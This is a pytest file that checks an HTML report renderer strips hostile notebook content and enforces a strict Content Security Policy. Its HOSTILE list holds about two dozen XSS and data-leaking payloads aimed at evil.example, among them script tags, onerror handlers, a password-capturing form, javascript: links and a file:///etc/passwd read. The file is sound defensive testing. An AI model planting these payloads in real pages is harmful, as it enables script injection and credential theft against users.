"""The page of a report loads nothing, runs nothing and keeps its texts; also when its notebook is hostile."""

from __future__ import annotations

import base64
from html.parser import HTMLParser
from typing import Any

import nbformat
import numpy as np
import pytest

from workbench.report import CONTENT_SECURITY_POLICY, line_chart, render_html, table

LOADS = {"src", "srcset", "data", "poster", "background", "action", "formaction", "style", "ping", "cite", "longdesc"}
"""Attributes through which markup loads, sends or hides something."""

HOSTILE = [
    '<script src="https://evil.example/x.js"></script>',
    "<script>parent.location = 'https://evil.example'</script>",
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png" onerror="alert(1)">',
    '<img srcset="https://evil.example/x.png 2x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    '<img src="file:///etc/passwd">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "</main></body></html><script>alert(1)</script>",
    "<style>@import url(https://evil.example/x.css);</style>",
    '<p style="background: url(https://evil.example/x.png)">x</p>',
    '<svg><image href="https://evil.example/x.png"/><script>alert(1)</script></svg>',
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    '<form action="https://evil.example/"><input name="password"><button>press</button></form>',
    '<video poster="https://evil.example/x.png"><source src="https://evil.example/x.mp4"></video>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href=" DATA:text/html,x">click</a>',
    '<a href="https://good.example/" ping="https://evil.example/" onclick="alert(1)">click</a>',
    "<!--><img src=x onerror=alert(1)>-->",
]


class Reader(HTMLParser):
    """Tags and attributes of a page, in order."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attributes)))


def page_of(*outputs: Any, markdown: str = "") -> str:
    cell = nbformat.v4.new_code_cell("x", outputs=list(outputs))
    made = nbformat.v4.new_notebook(cells=[cell, nbformat.v4.new_markdown_cell(markdown)])
    return render_html(made, title="A report")


def shown(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> Any:
    return nbformat.v4.new_output("display_data", data, metadata=metadata or {})


@pytest.mark.parametrize("html", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_that_a_cell_shows_loads_or_runs(html: str):
    page = page_of(shown({"text/html": f"<p>kept</p>{html}"}), markdown=f"# Title\n\n{html}\n\nend")
    assert "<p>kept</p>" in page
    seen = Reader(page).seen
    tags = {tag for tag, _ in seen}
    assert not tags & {"script", "iframe", "object", "embed", "form", "input", "link", "base", "svg", "math", "video"}
    assert [values.get("http-equiv") for tag, values in seen if tag == "meta"] == [None, None]
    assert sum(tag == "style" for tag, _ in seen) == 1, "ours"
    assert page.count("</main>") == 1
    for tag, values in seen:
        assert not any(name.startswith("on") for name in values), (tag, values)
        for name in LOADS & set(values):
            assert tag == "img", (tag, values)
            assert name == "src", (tag, values)
            assert str(values[name]).startswith("data:image/png;base64,"), (tag, values)
        assert str(values.get("href", "https://good.example/")).startswith(("https://good.example/", "#")), values


@pytest.mark.parametrize("kind", ["text/latex", "text/plain", "application/javascript", "image/svg+xml"])
def test_other_kinds_of_output_cannot_run_either(kind: str):
    page = page_of(shown({kind: "<script>alert(1)</script><svg onload='alert(1)'/>"}))
    assert not {tag for tag, _ in Reader(page).seen} & {"script", "svg"}


def test_a_link_leaves_the_frame_with_no_way_back():
    page = page_of(markdown="[a link](https://good.example/?a=1&b=2) and [a part](#title)")
    links = [values for tag, values in Reader(page).seen if tag == "a"]
    away = next(values for values in links if str(values.get("href")).startswith("https:"))
    assert away["href"] == "https://good.example/?a=1&b=2"
    assert away["target"] == "_blank"
    assert away["rel"] == "noopener noreferrer"
    assert "target" not in next(values for values in links if values.get("href") == "#title")


def test_pictures_stay_with_their_words():
    hours = np.arange(24.0)
    usual = (hours, hours * 0, hours * 2)
    image = line_chart("CPU", "share", {"today": (hours, hours)}, alt='CPU, "busy" & high', usual=usual, marks=[(1, 2)])
    page = page_of(shown({"image/png": base64.b64encode(image.data).decode()}, {"image/png": image.metadata}))
    (values,) = [values for tag, values in Reader(page).seen if tag == "img"]
    assert values["alt"] == 'CPU, "busy" & high'
    assert str(values["src"]).startswith("data:image/png;base64,")


def test_tables_escape_what_stands_in_them():
    html = table([{"Name": "<script>alert(1)</script>", "Value": "a & b"}]).data
    assert "<script>" not in html
    assert "a &amp; b" in html
    assert table([]).data == "<p>Nothing.</p>"


def test_titles_are_text():
    page = render_html(nbformat.v4.new_notebook(), title="</title><script>alert(1)</script>")
    assert "script" not in {tag for tag, _ in Reader(page).seen}


def test_the_policy_lets_nothing_run_or_load():
    policy = {part.split()[0]: part.split()[1:] for part in CONTENT_SECURITY_POLICY.split("; ")}
    assert not {"allow-scripts", "allow-same-origin", "allow-forms", "allow-top-navigation"} & set(policy["sandbox"])
    assert policy["default-src"] == ["'none'"]
    assert policy["img-src"] == ["data:"]
    assert "script-src" not in policy
